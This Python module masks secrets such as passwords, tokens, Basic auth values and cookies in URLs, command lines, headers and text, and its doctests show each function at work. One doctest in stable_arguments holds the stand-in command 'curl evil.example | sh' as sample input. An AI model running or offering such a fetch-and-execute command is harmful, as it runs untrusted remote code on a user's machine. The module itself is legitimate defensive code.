"""Finds and masks secrets in URLs, command lines, headers, variables and text."""

from __future__ import annotations

import base64
import html
import json
import re
from contextlib import suppress
from functools import lru_cache
from typing import TYPE_CHECKING
from urllib.parse import parse_qsl, quote, unquote, unquote_plus, urlencode, urlsplit, urlunsplit

from mcp_magic.schema.secrets import MASK, is_declared_secret

if TYPE_CHECKING:
    from collections.abc import Iterable, Mapping

__all__ = [
    "Concealed",
    "argument_secrets",
    "cookie_secrets",
    "credentials",
    "header_secrets",
    "hidden_in",
    "long_enough",
    "mask_arguments",
    "mask_text",
    "mask_url",
    "named_secrets",
    "spellings",
    "stable_arguments",
    "url_secrets",
    "variable_secrets",
    "with_names",
]

SHORTEST = 4
"""Characters of the shortest secret that is masked: masking each "1" would make a message unreadable."""

_TOKEN = re.compile(r"(?=[^\d]*\d)(?=[^A-Za-z]*[A-Za-z])[\w~+=-]{16,}|eyJ[\w.-]{16,}")
"""Text that looks like a token, whatever its name: long, with letters and digits, no path and no host name."""

_PLAIN = re.compile(r"[\w+=~-]+")
_IN_PATHS = {character: quote(character, "") for character in "!$&'()*+,;=:@/"}
_ESCAPE = re.compile(r"(?:%[0-9A-F]{2})+")
_URL_SAFE = str.maketrans("+/", "-_")
_NAMED = re.compile(r"([\w.-]+)(?:=|:(?!//)\s*)")
"""The start of `--name=value`, `NAME=value` or `Name: value`."""
_OFTEN = 300
"""Characters of the longest URL whose masked form is cached, because logs may repeat it."""

_URL = re.compile(r"[A-Za-z][A-Za-z0-9+.-]{0,30}://\S+")
_PAIR = re.compile(r"(?<![\w.-])([\w.-]++)\s*+=\s*('[^']*'|[^\s'&]+)")


def mask_url(url: str) -> str:
    """Return `url` with user info and secret-looking query values masked, and without its fragment.

    >>> mask_url("https://me:pw@example.com/mcp?api_key=1&page=2")
    'https://***@example.com/mcp?api_key=***&page=2'
    """
    return _masked_url(url) if len(url) <= _OFTEN else _masked_url.__wrapped__(url)


@lru_cache(maxsize=512)
def _masked_url(url: str) -> str:
    try:
        parts = urlsplit(url)
    except ValueError:  # not a URL, so its secrets cannot be found
        return MASK
    netloc = parts.netloc
    if "@" in netloc:
        netloc = f"{MASK}@{netloc.rpartition('@')[2]}"
    query = parts.query
    if query:
        pairs = [(k, MASK if is_declared_secret(k) else v) for k, v in parse_qsl(query, keep_blank_values=True)]
        query = urlencode(pairs, safe="*${}")
    return urlunsplit((parts.scheme, netloc, parts.path, query, ""))


def mask_text(text: str) -> str:
    """Return text with secrets masked in its URLs and `name=value` pairs, even if they contain special characters.

    >>> mask_text("postgresql://me:p/w@db.example:5432/threads?password=x")
    'postgresql://***@db.example:5432/threads?password=***'
    >>> mask_text("host=db.example password='p w' dbname=threads"), mask_text("openai:gpt-5")
    ('host=db.example password=*** dbname=threads', 'openai:gpt-5')
    """
    text = _URL.sub(lambda found: mask_url(_without_user(found[0])), text)
    return _PAIR.sub(lambda found: f"{found[1]}={MASK}" if is_declared_secret(found[1]) else found[0], text)


def _without_user(url: str) -> str:
    scheme, _, rest = url.partition("://")
    user, at, place = rest.rpartition("@")
    return f"{scheme}://{MASK}@{place}" if user and at else url


class Concealed(str):
    """A string that may hold a secret: an ordinary `str` with a masked repr.

    >>> where = Concealed("postgresql://me:sesame@db.example/threads")
    >>> where
    'postgresql://***@db.example/threads'
    >>> "sesame" in where
    True
    """

    __slots__ = ()

    def __repr__(self) -> str:
        return repr(mask_text(str(self)))


def mask_arguments(args: tuple[str, ...]) -> tuple[str, ...]:
    """Return command line arguments with the values of secret-looking options, variables and headers masked.

    >>> mask_arguments(("--api-key", "abc", "--token=xyz", "--port", "1"))
    ('--api-key', '***', '--token=***', '--port', '1')
    >>> mask_arguments(("-e", "GITHUB_TOKEN=abc", "--header", "Authorization: Bearer abc"))
    ('-e', 'GITHUB_TOKEN=***', '--header', 'Authorization: ***')
    """
    return tuple(shown for shown, _ in _masked_arguments(args))


def _masked_arguments(args: tuple[str, ...]) -> list[tuple[str, frozenset[str]]]:
    masked: list[tuple[str, frozenset[str]]] = []
    hide_next = False
    for arg in args:
        start = _secret_start(arg)
        if hide_next and not arg.startswith("-"):
            masked.append((MASK, frozenset({arg})))
        elif start is not None:
            masked.append((arg[:start] + MASK, credentials(arg[start:])))
        elif "://" in arg:
            secrets = frozenset(secret for url in _URL.findall(arg) for secret in url_secrets(url))
            masked.append((_URL.sub(lambda match: mask_url(match[0]), arg), secrets))
        else:
            masked.append((arg, frozenset()))
        hide_next = arg.startswith("-") and _NAMED.match(arg) is None and is_declared_secret(arg)
    return masked


def _secret_start(arg: str) -> int | None:
    """Return the index of the value of a secret-looking name, also in `--header=Authorization: x`, or None."""
    match = _NAMED.match(arg)
    while match:
        if is_declared_secret(match[1]):
            return match.end()
        match = _NAMED.match(arg, match.end())
    return None


def credentials(value: str) -> frozenset[str]:
    """Return a header's value and the secrets in it: `x` of `Bearer x`, and for `Basic x` also its decoded text.

    >>> sorted(credentials("Basic bWU6c2VzYW1l"))
    ['Basic bWU6c2VzYW1l', 'bWU6c2VzYW1l', 'me:sesame', 'sesame']
    """
    scheme, _, word = value.rpartition(" ")
    decoded = ""
    if scheme.strip().lower() == "basic":
        with suppress(ValueError):
            decoded = base64.b64decode(f"{word}{'=' * (-len(word) % 4)}", validate=True).decode()
    return frozenset({value, word, decoded, decoded.partition(":")[2]} - {""})


def cookie_secrets(name: str, value: str) -> frozenset[str]:
    """Return the values of cookies: of all in a `Cookie` header, of the only one in `Set-Cookie`.

    >>> sorted(cookie_secrets("Cookie", "a=open; b=sesame")), sorted(cookie_secrets("set-cookie", "b=sesame; Path=/"))
    (['open', 'sesame'], ['sesame'])
    """
    pairs = value.split(";")[: 1 if name.lower() == "set-cookie" else None]
    return frozenset(pair.partition("=")[2].strip().strip('"') for pair in pairs) - {""}


def argument_secrets(args: tuple[str, ...]) -> frozenset[str]:
    """Return the secrets that `mask_arguments` masks."""
    return frozenset(secret for _, found in _masked_arguments(args) for secret in found)


def named_secrets(values: Mapping[str, str]) -> frozenset[str]:
    """Return the values of secret-looking names."""
    return frozenset(value for name, value in values.items() if is_declared_secret(name))


def header_secrets(headers: Mapping[str, str]) -> frozenset[str]:
    """Return the values of secret-looking headers, and the secrets inside them.

    These are the `x` of `Bearer x`, the password in `Basic x`, each value of a cookie, and the WebSocket subprotocols
    that look like tokens (a browser can send a token in no other header).

    >>> sorted(header_secrets({"Authorization": "Basic bWU6c2VzYW1l", "Cookie": "a=open; b=sesame"}))
    ['Basic bWU6c2VzYW1l', 'a=open; b=sesame', 'b=sesame', 'bWU6c2VzYW1l', 'me:sesame', 'open', 'sesame']
    """
    found = {part for value in named_secrets(headers) for part in credentials(value)}
    for name, value in headers.items():
        if name.lower() == "cookie":
            found |= cookie_secrets(name, value)
        elif name.lower() == "sec-websocket-protocol":
            found |= {word for part in value.split(",") if _TOKEN.fullmatch(word := part.strip())}
    return frozenset(found - {""})


def variable_secrets(values: Mapping[str, str]) -> frozenset[str]:
    """Return the values of a declaration's variables that are secrets by name or look like tokens.

    >>> sorted(variable_secrets({"MY_SECRET": "sesame", "HOST": "db1.example.com", "ID": "a1b2c3d4e5f6a7b8"}))
    ['a1b2c3d4e5f6a7b8', 'sesame']
    """
    return frozenset(value for name, value in values.items() if is_declared_secret(name) or _TOKEN.fullmatch(value))


def with_names(text: str, values: Mapping[str, str]) -> str:
    """Return text with the values of variables replaced by `${NAME}`.

    >>> with_names("https://a.example/s3cret/mcp", {"MY_SECRET": "s3cret"})
    'https://a.example/${MY_SECRET}/mcp'
    """
    for name, value in sorted(values.items(), key=lambda pair: len(pair[1]), reverse=True):
        if len(value) >= SHORTEST:
            text = text.replace(value, f"${{{name}}}")
    return text


def stable_arguments(args: tuple[str, ...]) -> tuple[str, ...]:
    """Return arguments with tokens masked, so that a program keeps its identity when its secrets change.

    An argument stays if its secret could be a program, a file or a shell command.

    >>> stable_arguments(("--token", "ghp_16C7e42F", "-c", "TOKEN=x; curl evil.example | sh", "--key", "server.py"))
    ('--token', '***', '-c', 'TOKEN=x; curl evil.example | sh', '--key', 'server.py')
    """
    masked = zip(args, _masked_arguments(args), strict=True)
    return tuple(shown if all(map(_PLAIN.fullmatch, secrets)) else arg for arg, (shown, secrets) in masked)


def url_secrets(url: str) -> frozenset[str]:
    """Return user info and secret-looking query values of a URL, as written and decoded."""
    try:
        parts = urlsplit(url)
    except ValueError:
        return frozenset({url})
    user = parts.netloc.rpartition("@")[0]
    hidden = [user, unquote(user), parts.password or "", unquote(parts.password or "")]
    for pair in parts.query.split("&"):
        name, _, value = pair.partition("=")
        if is_declared_secret(name):
            hidden += [value, unquote_plus(value)]
    return frozenset(value for value in hidden if value)


def long_enough(values: Iterable[str]) -> frozenset[str]:
    """Return the values that are long enough to mask; see `SHORTEST`."""
    return frozenset(value for value in values if len(value) >= SHORTEST)


@lru_cache(maxsize=1024)
def spellings(secret: str) -> frozenset[str]:
    r"""Return the forms in which a secret may appear: unchanged, in a URL, in JSON, in HTML, within base64.

    >>> sorted(spellings("a/b c"))
    ['a%2Fb%20c', 'a%2Fb+c', 'a%2fb%20c', 'a%2fb+c', 'a/b c', 'a/b%20c', 'a\\/b c', 'a\\/b%20c']
    """
    in_query = in_path = quote(secret, "", errors="replace")  # UTF-8 cannot encode a lone surrogate
    for character, escape in _IN_PATHS.items():
        in_path = in_path.replace(escape, character)
    found = {secret, html.escape(secret), in_query, in_query.replace("%20", "+"), in_path}
    found |= {_ESCAPE.sub(lambda escape: escape[0].lower(), text) for text in found if "%" in text}
    for _ in range(3):  # JSON, JSON in a string of JSON, and that in the JSON of a message
        more = {json.dumps(text, ensure_ascii=ascii_)[1:-1] for text in found for ascii_ in (True, False)}
        if more <= found:
            break
        found |= more
    found |= {text.replace("/", "\\/") for text in found if "\\" not in text}
    return frozenset(found | _in_base64(secret))


def _in_base64(secret: str) -> set[str]:
    """Return the parts of base64 that every longer text with the secret has (such as `user:password`)."""
    found: set[str] = set()
    data = secret.encode("utf-8", "replace")
    if len(data) < 6:
        return found
    for before in range(3):
        text = base64.b64encode(b"\0" * before + data).decode()
        part = text[(0, 2, 3)[before] : (before + len(data)) * 8 // 6]
        found |= {part, part.translate(_URL_SAFE)} | ({text} if not before else set())
    return found


def hidden_in(text: str, secrets: frozenset[str]) -> str:
    """Return text with secrets masked in all their spellings."""
    for form in _all_spellings(secrets):
        if form in text:
            text = text.replace(form, MASK)
    return text


@lru_cache(maxsize=64)
def _all_spellings(secrets: frozenset[str]) -> tuple[str, ...]:
    return tuple(sorted({form for secret in secrets for form in spellings(secret)}, key=len, reverse=True))
